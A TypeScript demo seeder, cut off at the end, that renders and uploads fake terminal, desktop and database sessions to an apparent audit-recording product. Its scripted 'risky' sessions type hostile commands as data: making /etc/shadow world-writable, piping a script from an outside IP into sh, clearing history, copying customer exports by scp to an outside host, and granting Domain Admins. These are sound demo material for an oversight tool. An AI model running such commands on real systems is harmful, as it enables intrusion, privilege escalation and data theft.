/**
 * Demo recordings, made with ffmpeg and sent through the public ingestion API
 * exactly as a session proxy would: SSH terminals typed key by key (risky
 * commands, a masked password prompt), RDP and VNC desktops with a moving
 * pointer and sound, MySQL and PostgreSQL proxy sessions, a failed session
 * without media, a session still active and one recording of over 2 hours.
 */
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdtemp, rm, stat, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { execa } from "execa";
import { env } from "@/lib/env";
import { IngestClient } from "@/lib/ingest/client";
import type { SessionEventInput, StartSessionInput } from "@/lib/ingest/schemas";
import { ffmpegPath } from "@/lib/media/binaries";
import { createApiToken } from "@/lib/tokens";

const FONT_DIR = "/usr/share/fonts/truetype/dejavu";
const MONO_FONT = "DejaVu Sans Mono";
const SANS_FONT = "DejaVu Sans";

/** Deterministic pseudo-random numbers, so every demo looks the same. */
function random(seed: number) {
  let s = seed >>> 0;
  const next = () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let x = s;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
  return { next, int: (lo: number, hi: number) => lo + Math.floor(next() * (hi - lo + 1)) };
}

async function ffmpeg(args: string[], timeoutMs = 240_000) {
  await execa(ffmpegPath(), ["-hide_banner", "-loglevel", "error", ...args], { timeout: timeoutMs });
}

// ─── ASS subtitles: the text drawn on the pictures ──────────────────────────

const assTime = (ms: number) => {
  const cs = Math.max(0, Math.round(ms / 10));
  const h = Math.floor(cs / 360000);
  const m = Math.floor((cs % 360000) / 6000);
  const s = Math.floor((cs % 6000) / 100);
  return `${h}:${String(m).padStart(2, "0")}:${String(s).padStart(2, "0")}.${String(cs % 100).padStart(2, "0")}`;
};

/** Text for an ASS line: braces and backslashes would be read as tags; spaces must not collapse. */
const assText = (text: string) => text.replace(/[{}]/g, "").replace(/\\/g, "/").replace(/ /g, "\\h");

type AssLine = { start: number; end: number; style: string; x: number; y: number; text: string };

function assDocument(width: number, height: number, styles: string[], lines: AssLine[]): string {
  return [
    "[Script Info]",
    "ScriptType: v4.00+",
    `PlayResX: ${width}`,
    `PlayResY: ${height}`,
    "WrapStyle: 2",
    "",
    "[V4+ Styles]",
    "Format: Name, Fontname, Fontsize, PrimaryColour, SecondaryColour, OutlineColour, BackColour, Bold, Italic, Underline, StrikeOut, ScaleX, ScaleY, Spacing, Angle, BorderStyle, Outline, Shadow, Alignment, MarginL, MarginR, MarginV, Encoding",
    ...styles,
    "",
    "[Events]",
    "Format: Layer, Start, End, Style, Name, MarginL, MarginR, MarginV, Effect, Text",
    ...lines
      .filter((l) => l.end > l.start)
      .map((l) => `Dialogue: 0,${assTime(l.start)},${assTime(l.end)},${l.style},,0,0,0,,{\\pos(${l.x},${l.y})}${l.text}`),
    "",
  ].join("\n");
}

/** The `ass` filter, with the DejaVu fonts when they are installed (libass falls back to any font otherwise). */
function assFilter(file: string) {
  const escaped = file.replace(/\\/g, "/").replace(/:/g, "\\:").replace(/'/g, "");
  return existsSync(FONT_DIR) ? `ass='${escaped}':fontsdir=${FONT_DIR}` : `ass='${escaped}'`;
}

// ─── Terminal sessions (SSH, and the database consoles) ─────────────────────

type TerminalStep =
  | { kind: "type"; text: string; output?: string[]; prompt?: string; pauseMs?: number }
  | { kind: "password"; prompt: string; length: number; output?: string[]; prompt2?: string }
  | { kind: "query"; statement: string; outcome: "success" | "error"; rowsAffected?: number; errorMessage?: string; output: string[] }
  | { kind: "wait"; ms: number };

type TerminalScript = { prompt: string; banner: string[]; steps: TerminalStep[]; seed: number; tailMs?: number };

type Rendered = { ass: string; events: SessionEventInput[]; durationMs: number };

/**
 * Plays a terminal script: each key becomes a `key` event and a new picture
 * of the screen at the same millisecond, so the video and the keystroke log
 * stay in step. Commands also give the `command` event a proxy would send.
 */
function renderTerminal(script: TerminalScript, { width, height, fontSize }: { width: number; height: number; fontSize: number }): Rendered {
  const rnd = random(script.seed);
  const rows = Math.floor((height - 20) / (fontSize * 1.2));
  const screen: string[] = [...script.banner];
  let current = script.prompt;
  let prompt = script.prompt;
  let t = 800;
  const frames: { t: number; lines: string[] }[] = [];
  const events: SessionEventInput[] = [];
  const snapshot = () => frames.push({ t, lines: [...screen, `${current}█`].slice(-rows) });
  snapshot();
  const typeKeys = (text: string, masked: boolean) => {
    for (const ch of text) {
      t += rnd.int(70, 190);
      events.push(masked ? { type: "key", t, key: ch, masked: true } : { type: "key", t, key: ch });
      if (!masked) current += ch;
      snapshot();
    }
    t += rnd.int(150, 400);
    events.push(masked ? { type: "key", t, key: "Enter", masked: true } : { type: "key", t, key: "Enter" });
  };
  const print = (lines: string[] = []) => {
    screen.push(current);
    t += lines.length ? rnd.int(120, 450) : 40;
    screen.push(...lines);
    current = prompt;
    snapshot();
  };
  for (const step of script.steps) {
    if (step.kind === "wait") {
      t += step.ms;
      continue;
    }
    if (step.kind === "query") {
      typeKeys(step.statement, false);
      events.push({
        type: "query",
        t,
        statement: step.statement,
        outcome: step.outcome,
        ...(step.rowsAffected !== undefined ? { rowsAffected: step.rowsAffected } : {}),
        ...(step.errorMessage ? { errorMessage: step.errorMessage } : {}),
      });
      print(step.output);
      t += rnd.int(800, 2200);
      continue;
    }
    if (step.kind === "password") {
      // The prompt replaces the shell prompt the previous command left on the line.
      current = step.prompt;
      snapshot();
      typeKeys("x".repeat(step.length), true);
      if (step.prompt2) prompt = step.prompt2;
      screen.push(current);
      screen.push(...(step.output ?? []));
      current = prompt;
      snapshot();
      t += rnd.int(600, 1500);
      continue;
    }
    typeKeys(step.text, false);
    events.push({ type: "command", t, command: step.text });
    if (step.prompt) prompt = step.prompt;
    print(step.output);
    t += step.pauseMs ?? rnd.int(900, 2500);
  }
  const durationMs = t + (script.tailMs ?? 1500);
  const lineHeight = Math.round(fontSize * 1.2);
  const ass: AssLine[] = frames.map((f, i) => ({
    start: f.t,
    end: frames[i + 1]?.t ?? durationMs,
    style: "Term",
    x: 12,
    y: 10,
    text: f.lines.map((l) => assText(l) || "\\h").join("\\N"),
  }));
  void lineHeight;
  const style = `Style: Term,${MONO_FONT},${fontSize},&H00D8D8D8,&H00FFFFFF,&H00000000,&H00000000,0,0,0,0,100,100,0,0,1,0,0,7,12,12,10,1`;
  return { ass: assDocument(width, height, [style], ass), events, durationMs };
}

type MediaFormat = "mp4" | "webm";

/** Encodes a rendered screen: fragmented MP4/H.264 or WebM/VP9, a keyframe every 2 s. */
async function encodeTerminal(
  dir: string,
  name: string,
  rendered: Rendered,
  { width, height, fps, format, background = "0x1e1e1e" }: { width: number; height: number; fps: number; format: MediaFormat; background?: string },
): Promise<string> {
  const assFile = path.join(dir, `${name}.ass`);
  await writeFile(assFile, rendered.ass);
  const out = path.join(dir, `${name}.${format}`);
  const seconds = (rendered.durationMs / 1000).toFixed(2);
  const codec =
    format === "mp4"
      ? ["-c:v", "libx264", "-preset", "ultrafast", "-tune", "stillimage", "-pix_fmt", "yuv420p", "-g", String(fps * 2), "-movflags", "frag_keyframe+empty_moov+default_base_moof"]
      : ["-c:v", "libvpx-vp9", "-deadline", "realtime", "-cpu-used", "8", "-b:v", "300k", "-pix_fmt", "yuv420p", "-g", String(fps * 2)];
  await ffmpeg([
    "-f", "lavfi", "-i", `color=c=${background}:s=${width}x${height}:r=${fps}:d=${seconds}`,
    "-vf", assFilter(assFile),
    ...codec,
    "-y", out,
  ]);
  return out;
}

// ─── Desktops (RDP, VNC) ────────────────────────────────────────────────────

type Desktop = {
  seed: number;
  durationMs: number;
  background: string;
  taskbar: string;
  windows: { title: string; x: number; y: number; w: number; h: number; color: string; openAt: number; lines?: string[] }[];
  typing?: { windowIndex: number; at: number; text: string };
  pointer: { t: number; x: number; y: number; click?: "left" | "right" }[];
};

/** Linear interpolation between pointer waypoints, as an ffmpeg expression of `t`. */
function pointerExpression(points: Desktop["pointer"], axis: "x" | "y"): string {
  let expr = String(points[points.length - 1]![axis]);
  for (let i = points.length - 2; i >= 0; i--) {
    const a = points[i]!;
    const b = points[i + 1]!;
    const t0 = a.t / 1000;
    const t1 = b.t / 1000;
    const seg = `${a[axis]}+(${b[axis] - a[axis]})*(t-${t0})/${Math.max(0.001, t1 - t0)}`;
    expr = `if(lt(t,${t1}),${seg},${expr})`;
  }
  return `if(lt(t,${points[0]!.t / 1000}),${points[0]![axis]},${expr})`;
}

async function renderDesktop(dir: string, name: string, desktop: Desktop, { width, height, fps }: { width: number; height: number; fps: number }) {
  const rnd = random(desktop.seed);
  const events: SessionEventInput[] = [];
  const lines: AssLine[] = [];
  const boxes: string[] = [];
  const end = desktop.durationMs;
  // The taskbar, with a clock and a button per open window.
  boxes.push(`drawbox=x=0:y=${height - 36}:w=${width}:h=36:color=${desktop.taskbar}:t=fill`);
  desktop.windows.forEach((w, i) => {
    const enable = `enable='gte(t,${w.openAt / 1000})'`;
    boxes.push(`drawbox=x=${w.x + 6}:y=${w.y + 6}:w=${w.w}:h=${w.h}:color=black@0.35:t=fill:${enable}`);
    boxes.push(`drawbox=x=${w.x}:y=${w.y}:w=${w.w}:h=${w.h}:color=${w.color}:t=fill:${enable}`);
    boxes.push(`drawbox=x=${w.x}:y=${w.y}:w=${w.w}:h=28:color=0x2b3a55:t=fill:${enable}`);
    lines.push({ start: w.openAt, end, style: "Title", x: w.x + 10, y: w.y + 5, text: assText(w.title) });
    lines.push({ start: w.openAt, end, style: "Task", x: 60 + i * 180, y: height - 27, text: assText(w.title.slice(0, 18)) });
    if (w.lines?.length) {
      lines.push({ start: w.openAt, end, style: "Body", x: w.x + 12, y: w.y + 40, text: w.lines.map(assText).join("\\N") });
    }
    events.push({ type: "window", t: w.openAt, title: w.title });
  });
  for (let s = 0; s * 1000 < end; s += 1) {
    const clock = new Date(Date.UTC(2026, 0, 1, 9, 41, s)).toISOString().slice(11, 19);
    lines.push({ start: s * 1000, end: Math.min(end, (s + 1) * 1000), style: "Task", x: width - 90, y: height - 27, text: clock });
  }
  if (desktop.typing) {
    const w = desktop.windows[desktop.typing.windowIndex]!;
    let t = desktop.typing.at;
    let typed = "";
    const baseY = w.y + 40 + (w.lines?.length ?? 0) * 20 + 8;
    for (const ch of desktop.typing.text) {
      const start = t;
      t += rnd.int(90, 220);
      events.push({ type: "key", t: start, key: ch });
      typed += ch;
      lines.push({ start, end: t, style: "Body", x: w.x + 12, y: baseY, text: `${assText(typed)}|` });
    }
    events.push({ type: "key", t, key: "Enter" });
    lines.push({ start: t, end, style: "Body", x: w.x + 12, y: baseY, text: assText(typed) });
  }
  // Pointer: mouse events sampled along the path, clicks at the waypoints that say so.
  const pts = desktop.pointer;
  for (let t = pts[0]!.t; t <= pts[pts.length - 1]!.t; t += 250) {
    const i = Math.max(0, pts.findIndex((p) => p.t > t) - 1);
    const a = pts[i]!;
    const b = pts[Math.min(i + 1, pts.length - 1)]!;
    const k = b.t === a.t ? 0 : Math.min(1, (t - a.t) / (b.t - a.t));
    events.push({ type: "mouse", t, x: Math.round(a.x + (b.x - a.x) * k), y: Math.round(a.y + (b.y - a.y) * k) });
  }
  for (const p of pts) if (p.click) events.push({ type: "click", t: p.t, x: p.x, y: p.y, button: p.click });
  const styles = [
    `Style: Title,${SANS_FONT},15,&H00FFFFFF,&H00FFFFFF,&H00000000,&H00000000,1,0,0,0,100,100,0,0,1,0,0,7,0,0,0,1`,
    `Style: Task,${SANS_FONT},14,&H00F0F0F0,&H00FFFFFF,&H00000000,&H00000000,0,0,0,0,100,100,0,0,1,0,0,7,0,0,0,1`,
    `Style: Body,${MONO_FONT},15,&H00202020,&H00FFFFFF,&H00000000,&H00000000,0,0,0,0,100,100,0,0,1,0,0,7,0,0,0,1`,
  ];
  const assFile = path.join(dir, `${name}.ass`);
  await writeFile(assFile, assDocument(width, height, styles, lines));
  const out = path.join(dir, `${name}.mp4`);
  const seconds = (end / 1000).toFixed(2);
  const filter = [
    `[0:v]${boxes.join(",")},${assFilter(assFile)}[desk]`,
    // The pointer: a white arrow-ish box with a dark edge, moved along the path.
    `[1:v]drawbox=x=0:y=0:w=12:h=18:color=0x111111:t=2[ptr]`,
    `[desk][ptr]overlay=x='${pointerExpression(pts, "x")}':y='${pointerExpression(pts, "y")}':eval=frame[v]`,
  ].join(";");
  await ffmpeg([
    "-f", "lavfi", "-i", `color=c=${desktop.background}:s=${width}x${height}:r=${fps}:d=${seconds}`,
    "-f", "lavfi", "-i", `color=c=white:s=12x18:r=${fps}:d=${seconds}`,
    // Sound from the remote machine: a soft chime each few seconds over a low hum.
    "-f", "lavfi", "-i", `sine=frequency=523:beep_factor=3:sample_rate=44100:duration=${seconds}`,
    "-filter_complex", filter,
    "-map", "[v]", "-map", "2:a",
    "-c:v", "libx264", "-preset", "ultrafast", "-tune", "stillimage", "-pix_fmt", "yuv420p", "-g", String(fps * 2),
    "-c:a", "aac", "-b:a", "64k", "-af", "volume=0.15",
    "-movflags", "frag_keyframe+empty_moov+default_base_moof",
    "-shortest", "-y", out,
  ]);
  events.sort((a, b) => a.t - b.t);
  return { file: out, events };
}

// ─── The long recording ─────────────────────────────────────────────────────

/**
 * A recording of over 2 hours made cheaply: one minute of a terminal watching
 * a log at 1 frame per second, encoded once, then repeated with a stream copy.
 */
async function renderLongRecording(dir: string, minutes: number) {
  const width = 640;
  const height = 360;
  const lines: AssLine[] = [];
  // The log moves every 5 s: the frames between are nearly free to encode.
  for (let s = 0; s < 60; s += 5) {
    const rows = Array.from({ length: 12 }, (_, i) => {
      const n = s * 3 + i;
      return `2026-03-02 0${Math.floor(n / 60) % 10}:${String(n % 60).padStart(2, "0")} backup[${2100 + (n % 7)}]: copied chunk ${1000 + n} (${(n * 37) % 900 + 100} MB)`;
    });
    lines.push({ start: s * 1000, end: (s + 5) * 1000, style: "Term", x: 10, y: 8, text: ["root@backup-01:~# tail -f /var/log/backup.log", ...rows].map(assText).join("\\N") });
  }
  const assFile = path.join(dir, "long.ass");
  await writeFile(assFile, assDocument(width, height, [`Style: Term,${MONO_FONT},13,&H00C8E6C8,&H00FFFFFF,&H00000000,&H00000000,0,0,0,0,100,100,0,0,1,0,0,7,10,10,8,1`], lines));
  const segment = path.join(dir, "long-segment.mp4");
  await ffmpeg([
    "-f", "lavfi", "-i", `color=c=0x101410:s=${width}x${height}:r=1:d=60`,
    "-vf", assFilter(assFile),
    // Only 60 frames: a slower preset costs little and keeps the 2-hour file small.
    // A keyframe every 6 s matches the player's longest segment.
    "-c:v", "libx264", "-preset", "medium", "-tune", "stillimage", "-crf", "30", "-pix_fmt", "yuv420p", "-g", "6",
    "-y", segment,
  ]);
  const list = path.join(dir, "long.txt");
  await writeFile(list, Array.from({ length: minutes }, () => `file '${segment}'`).join("\n") + "\n");
  const out = path.join(dir, "long.mp4");
  await ffmpeg(["-f", "concat", "-safe", "0", "-i", list, "-c", "copy", "-movflags", "frag_keyframe+empty_moov+default_base_moof", "-y", out]);
  const events: SessionEventInput[] = [];
  let t = 2000;
  for (const ch of "tail -f /var/log/backup.log") events.push({ type: "key", t: (t += 120), key: ch });
  events.push({ type: "key", t: (t += 300), key: "Enter" });
  events.push({ type: "command", t, command: "tail -f /var/log/backup.log" });
  return { file: out, events, durationMs: minutes * 60_000 };
}

// ─── The sessions ───────────────────────────────────────────────────────────

type DemoSession = {
  label: string;
  start: Omit<StartSessionInput, "hash" | "startedAt">;
  startedAgoMs: number;
  media: (dir: string) => Promise<{ file: string | null; events: SessionEventInput[]; durationMs: number }>;
  chunkSize?: number;
  /** Omitted: the session is still active (only some chunks sent). */
  finish: "ok" | "active" | { errorMessage: string };
};

const TERM = { width: 960, height: 540, fontSize: 17 };

const RISKY_SSH: TerminalScript = {
  seed: 11,
  prompt: "alice@web-01:~$ ",
  banner: ["Welcome to Ubuntu 24.04 LTS (GNU/Linux 6.8.0-31-generic x86_64)", "Last login: Mon Mar  2 08:12:44 2026 from 10.20.4.17", ""],
  steps: [
    { kind: "type", text: "uptime", output: [" 09:41:07 up 41 days,  3:12,  2 users,  load average: 0.31, 0.28, 0.22"] },
    { kind: "type", text: "ls -la /etc/nginx", output: ["total 64", "drwxr-xr-x  8 root root 4096 Feb 11 10:02 .", "-rw-r--r--  1 root root 1482 Feb 11 10:02 nginx.conf", "drwxr-xr-x  2 root root 4096 Feb 11 10:02 sites-enabled"] },
    { kind: "type", text: "sudo su -" },
    { kind: "password", prompt: "[sudo] password for alice: ", length: 11, prompt2: "root@web-01:~# " },
    { kind: "type", text: "id", output: ["uid=0(root) gid=0(root) groups=0(root)"] },
    { kind: "type", text: "chmod 777 /etc/shadow" },
    { kind: "type", text: "ls -l /etc/shadow", output: ["-rwxrwxrwx 1 root shadow 1392 Feb 11 10:02 /etc/shadow"] },
    { kind: "type", text: "curl -fsSL http://203.0.113.66/install.sh | sh", output: ["[+] downloading agent...", "[+] installing to /usr/local/bin/.cache-agent", "[+] done"] },
    { kind: "type", text: "history -c" },
    { kind: "type", text: "exit", output: ["logout"], prompt: "alice@web-01:~$ " },
    { kind: "type", text: "exit", output: ["logout", "Connection to web-01 closed."] },
  ],
};

const ROUTINE_SSH: TerminalScript = {
  seed: 22,
  prompt: "bob@app-02:~$ ",
  banner: ["Debian GNU/Linux 12 (bookworm)", "Last login: Tue Mar  3 14:02:10 2026 from 10.20.4.31", ""],
  steps: [
    { kind: "type", text: "df -h /", output: ["Filesystem      Size  Used Avail Use% Mounted on", "/dev/sda1        79G   41G   35G  55% /"] },
    { kind: "type", text: "systemctl status app --no-pager", output: ["● app.service - Billing application", "     Loaded: loaded (/etc/systemd/system/app.service; enabled)", "     Active: active (running) since Sun 2026-03-01 02:00:03 UTC"] },
    { kind: "type", text: "tail -n 3 /var/log/app/app.log", output: ["2026-03-03 14:03:01 INFO  invoice batch 8812 done (214 ms)", "2026-03-03 14:03:05 WARN  slow query on invoices (1.2 s)", "2026-03-03 14:03:09 INFO  invoice batch 8813 done (198 ms)"] },
    { kind: "type", text: "exit", output: ["logout"] },
  ],
};

const MYSQL: TerminalScript = {
  seed: 33,
  prompt: "mysql> ",
  banner: ["Welcome to the MySQL monitor.  Commands end with ; or /g.", "Server version: 8.0.36 MySQL Community Server - GPL", ""],
  steps: [
    { kind: "query", statement: "USE shop;", outcome: "success", rowsAffected: 0, output: ["Database changed"] },
    { kind: "query", statement: "SELECT id, email FROM customers WHERE created_at > '2026-03-01' LIMIT 20;", outcome: "success", rowsAffected: 20, output: ["(20 rows shown by the client; result rows are not recorded)", "20 rows in set (0.01 sec)"] },
    { kind: "query", statement: "UPDATE orders SET status = 'refunded' WHERE id = 88123;", outcome: "success", rowsAffected: 1, output: ["Query OK, 1 row affected (0.02 sec)"] },
    { kind: "query", statement: "SELECT * FROM paymnets;", outcome: "error", errorMessage: "ERROR 1146 (42S02): Table 'shop.paymnets' doesn't exist", output: ["ERROR 1146 (42S02): Table 'shop.paymnets' doesn't exist"] },
    { kind: "query", statement: "DROP TABLE audit_trail;", outcome: "error", errorMessage: "ERROR 1142 (42000): DROP command denied to user 'app_ro'@'10.20.4.17' for table 'audit_trail'", output: ["ERROR 1142 (42000): DROP command denied to user 'app_ro'@'10.20.4.17'"] },
    { kind: "query", statement: "GRANT ALL PRIVILEGES ON *.* TO 'app_ro'@'%';", outcome: "error", errorMessage: "ERROR 1045 (28000): Access denied for user 'app_ro'@'10.20.4.17'", output: ["ERROR 1045 (28000): Access denied for user 'app_ro'@'10.20.4.17'"] },
  ],
};

const POSTGRES: TerminalScript = {
  seed: 44,
  prompt: "billing=> ",
  banner: ["psql (16.2)", "SSL connection (protocol: TLSv1.3, cipher: TLS_AES_256_GCM_SHA384)", "Type \"help\" for help.", ""],
  steps: [
    { kind: "query", statement: "SELECT count(*) FROM invoices WHERE paid_at IS NULL;", outcome: "success", rowsAffected: 1, output: [" count ", "-------", "   412", "(1 row)"] },
    { kind: "query", statement: "DELETE FROM sessions WHERE expires_at < now() - interval '30 days';", outcome: "success", rowsAffected: 1873, output: ["DELETE 1873"] },
    { kind: "query", statement: "ALTER TABLE invoices DROP COLUMN legacy_ref;", outcome: "error", errorMessage: "ERROR:  must be owner of table invoices", output: ["ERROR:  must be owner of table invoices"] },
    { kind: "query", statement: "COPY customers TO '/tmp/customers.csv' CSV;", outcome: "error", errorMessage: "ERROR:  permission denied to COPY to a file", output: ["ERROR:  permission denied to COPY to a file"] },
    { kind: "query", statement: "UPDATE invoices SET due_date = due_date + 7 WHERE customer_id = 5512;", outcome: "success", rowsAffected: 3, output: ["UPDATE 3"] },
  ],
};

const ACTIVE_SSH: TerminalScript = {
  seed: 55,
  prompt: "alice@db-03:~$ ",
  banner: ["Last login: Sat Mar  7 09:55:02 2026 from 10.20.4.17", ""],
  steps: [
    { kind: "type", text: "sudo -l", output: ["User alice may run the following commands on db-03:", "    (root) /usr/bin/systemctl restart postgresql"] },
    { kind: "type", text: "journalctl -u postgresql --since today | tail -n 2", output: ["Mar 07 09:58:12 db-03 postgres[811]: checkpoint complete", "Mar 07 10:01:44 db-03 postgres[811]: automatic vacuum of table \"billing.public.invoices\""] },
    { kind: "type", text: "top -b -n 1 | head -n 5", output: ["top - 10:02:31 up 12 days,  1:01,  1 user,  load average: 1.12, 0.94, 0.80", "Tasks: 183 total,   1 running, 182 sleeping"] },
  ],
};

function terminalSession(script: TerminalScript, format: MediaFormat, name: string) {
  return async (dir: string) => {
    const rendered = renderTerminal(script, TERM);
    const file = await encodeTerminal(dir, name, rendered, { ...TERM, fps: 5, format });
    return { file, events: rendered.events, durationMs: rendered.durationMs };
  };
}

const RDP_DESKTOP: Desktop = {
  seed: 66,
  durationMs: 36_000,
  background: "0x1f6fb2",
  taskbar: "0x1b1f2a",
  windows: [
    { title: "Server Manager - Dashboard", x: 60, y: 50, w: 560, h: 360, color: "0xf3f3f3", openAt: 1500, lines: ["Roles and Server Groups", "  AD DS          1   Manageability", "  DNS            1   Events", "  File Services  1   Services"] },
    { title: "Active Directory Users and Computers", x: 300, y: 160, w: 600, h: 380, color: "0xfafafa", openAt: 9000, lines: ["corp.example.com", "  Domain Admins", "  Users", "  Service Accounts"] },
    { title: "Windows PowerShell (Administrator)", x: 180, y: 300, w: 640, h: 300, color: "0xeeeeee", openAt: 20_000, lines: ["PS C:/Users/Administrator>"] },
  ],
  typing: { windowIndex: 2, at: 22_500, text: "Add-ADGroupMember -Identity 'Domain Admins' -Members svc-backup" },
  pointer: [
    { t: 500, x: 900, y: 600 },
    { t: 1400, x: 120, y: 735, click: "left" },
    { t: 4000, x: 200, y: 130 },
    { t: 6000, x: 260, y: 160, click: "left" },
    { t: 8800, x: 600, y: 200, click: "left" },
    { t: 12_000, x: 420, y: 250, click: "left" },
    { t: 14_000, x: 430, y: 270, click: "right" },
    { t: 19_500, x: 500, y: 320, click: "left" },
    { t: 30_000, x: 780, y: 560 },
    { t: 34_000, x: 870, y: 60, click: "left" },
  ],
};

const VNC_DESKTOP: Desktop = {
  seed: 77,
  durationMs: 28_000,
  background: "0x3c3f41",
  taskbar: "0x232526",
  windows: [
    { title: "Files - /srv/exports", x: 40, y: 40, w: 520, h: 320, color: "0xf6f5f4", openAt: 1200, lines: ["customers-2026-02.csv   18 MB", "invoices-2026-02.csv    41 MB", "readme.txt               2 KB"] },
    { title: "Terminal - bob@analytics-01", x: 320, y: 220, w: 600, h: 300, color: "0x2e3436", openAt: 11_000, lines: [] },
  ],
  typing: { windowIndex: 1, at: 13_000, text: "scp /srv/exports/customers-2026-02.csv bob@198.51.100.23:/tmp/" },
  pointer: [
    { t: 300, x: 700, y: 500 },
    { t: 2500, x: 150, y: 90, click: "left" },
    { t: 5000, x: 160, y: 120, click: "left" },
    { t: 7000, x: 160, y: 120, click: "right" },
    { t: 10_500, x: 500, y: 240, click: "left" },
    { t: 26_000, x: 900, y: 100 },
  ],
};

function desktopSession(desktop: Desktop, name: string) {
  return async (dir: string) => {
    const { file, events } = await renderDesktop(dir, name, desktop, { width: 1024, height: 768, fps: 8 });
    return { file, events, durationMs: desktop.durationMs };
  };
}

const HOUR = 3_600_000;

/** The demo sessions, newest last; `startedAgoMs` places them in the recent past. */
export const DEMO_RECORDINGS: DemoSession[] = [
  {
    label: "SSH with risky commands (MP4)",
    start: { protocol: "ssh", host: "web-01.corp.example.com", credentialUsername: "alice", user: "Alice Martins", userIp: "10.20.4.17", clusterNode: "proxy-a" },
    startedAgoMs: 26 * HOUR,
    media: terminalSession(RISKY_SSH, "mp4", "ssh-risky"),
    chunkSize: 128 * 1024,
    finish: "ok",
  },
  {
    label: "SSH routine maintenance (WebM/VP9)",
    start: { protocol: "ssh", host: "app-02.corp.example.com", credentialUsername: "bob", user: "Bob Chen", userIp: "10.20.4.31", clusterNode: "proxy-b" },
    startedAgoMs: 22 * HOUR,
    media: terminalSession(ROUTINE_SSH, "webm", "ssh-routine"),
    chunkSize: 64 * 1024,
    finish: "ok",
  },
  {
    label: "RDP to a domain controller (H.264 + AAC)",
    start: { protocol: "rdp", host: "dc-01.corp.example.com", credentialUsername: "CORP\\Administrator", user: "Alice Martins", userIp: "10.20.4.17", clusterNode: "proxy-a" },
    startedAgoMs: 20 * HOUR,
    media: desktopSession(RDP_DESKTOP, "rdp"),
    chunkSize: 256 * 1024,
    finish: "ok",
  },
  {
    label: "VNC to an analytics desktop (H.264 + AAC)",
    start: { protocol: "vnc", host: "analytics-01.corp.example.com", credentialUsername: "bob", user: "Bob Chen", userIp: "10.20.4.31", clusterNode: "proxy-b" },
    startedAgoMs: 9 * HOUR,
    media: desktopSession(VNC_DESKTOP, "vnc"),
    chunkSize: 256 * 1024,
    finish: "ok",
  },
  {
    label: "MySQL proxy session",
    start: { protocol: "mysql", host: "mysql-shop.corp.example.com", credentialUsername: "app_ro", user: "Alice Martins", userIp: "10.20.4.17", clusterNode: "proxy-a" },
    startedAgoMs: 7 * HOUR,
    media: terminalSession(MYSQL, "mp4", "mysql"),
    chunkSize: 128 * 1024,
    finish: "ok",
  },
  {
    label: "PostgreSQL proxy session",
    start: { protocol: "postgresql", host: "pg-billing.corp.example.com", credentialUsername: "billing_ops", user: "Bob Chen", userIp: "10.20.4.31", clusterNode: "proxy-b" },
    startedAgoMs: 5 * HOUR,
    media: terminalSession(POSTGRES, "mp4", "postgres"),
    chunkSize: 128 * 1024,
    finish: "ok",
  },
  {
    label: "Failed SSH connection (no media)",
    start: { protocol: "ssh", host: "legacy-07.corp.example.com", credentialUsername: "root", user: "Carol Diaz", userIp: "10.20.5.9", clusterNode: "proxy-a" },
    startedAgoMs: 4 * HOUR,
    media: async () => ({ file: null, events: [], durationMs: 2300 }),
    finish: { errorMessage: "Connection to legacy-07.corp.example.com:22 failed: host key verification failed" },
  },
  {
    label: "Backup watch, 2 h 05 min (long recording)",
    start: { protocol: "ssh", host: "backup-01.corp.example.com", credentialUsername: "root", user: "Bob Chen", userIp: "10.20.4.31", clusterNode: "proxy-b" },
    startedAgoMs: 3 * HOUR,
    media: (dir) => renderLongRecording(dir, 125),
    chunkSize: 1024 * 1024,
    finish: "ok",
  },
  {
    label: "SSH still active",
    start: { protocol: "ssh", host: "db-03.corp.example.com", credentialUsername: "alice", user: "Alice Martins", userIp: "10.20.4.17", clusterNode: "proxy-a" },
    startedAgoMs: 6 * 60_000,
    media: terminalSession(ACTIVE_SSH, "mp4", "ssh-active"),
    chunkSize: 64 * 1024,
    finish: "active",
  },
];

/** Waits until the web server answers, e.g. right after `next start` was spawned. */
export async function waitForServer(baseUrl: string, timeoutMs = 120_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const ok = await fetch(`${baseUrl}/api/v1/openapi.json`).then(
      (r) => r.ok,
      () => false,
    );
    if (ok) return;
    if (Date.now() > deadline) throw new Error(`${baseUrl} did not answer within ${timeoutMs / 1000} s`);
    await new Promise((r) => setTimeout(r, 500));
  }
}

/**
 * Generates the demo recordings and sends them through the HTTP API of the
 * server at `baseUrl`, with an API token it creates ("demo-proxy"). Media is
 * encoded two at a time; each session is uploaded as soon as it is ready.
 */
export async function seedDemoRecordings({ baseUrl, token }: { baseUrl?: string; token?: string } = {}): Promise<{ sessions: string[] }> {
  const url = baseUrl ?? `http://localhost:${env.PORT}`;
  await waitForServer(url);
  const secret = token ?? (await createApiToken({ name: `demo-proxy-${randomBytes(2).toString("hex")}`, createdBy: null })).token;
  const client = new IngestClient(url, secret);
  const dir = await mkdtemp(path.join(os.tmpdir(), "sv-demo-"));
  const started = Date.now();
  const hashes: string[] = [];
  try {
    const queue = [...DEMO_RECORDINGS];
    const workers = Array.from({ length: 2 }, async () => {
      for (let demo = queue.shift(); demo; demo = queue.shift()) {
        const t0 = Date.now();
        hashes.push(await sendDemoSession(client, dir, demo));
        console.log(`[demo] ${demo.label}: ${((Date.now() - t0) / 1000).toFixed(1)} s`);
      }
    });
    await Promise.all(workers);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
  console.log(`[demo] ${hashes.length} recorded sessions sent through ${url}/api/v1 in ${((Date.now() - started) / 1000).toFixed(1)} s`);
  return { sessions: hashes };
}

async function sendDemoSession(client: IngestClient, dir: string, demo: DemoSession): Promise<string> {
  const hash = randomBytes(10).toString("hex");
  const startedAt = new Date(Date.now() - demo.startedAgoMs);
  const { file, events, durationMs } = await demo.media(dir);
  await client.start({ ...demo.start, hash, startedAt: startedAt.toISOString() });
  // Events go in batches, as a proxy flushes them while the session runs.
  const active = demo.finish === "active";
  const sent = active ? events.filter((e) => e.t < durationMs * 0.6) : events;
  for (let i = 0; i < sent.length; i += 500) await client.events(hash, sent.slice(i, i + 500));
  const endedAt = new Date(startedAt.getTime() + durationMs).toISOString();
  if (!file) {
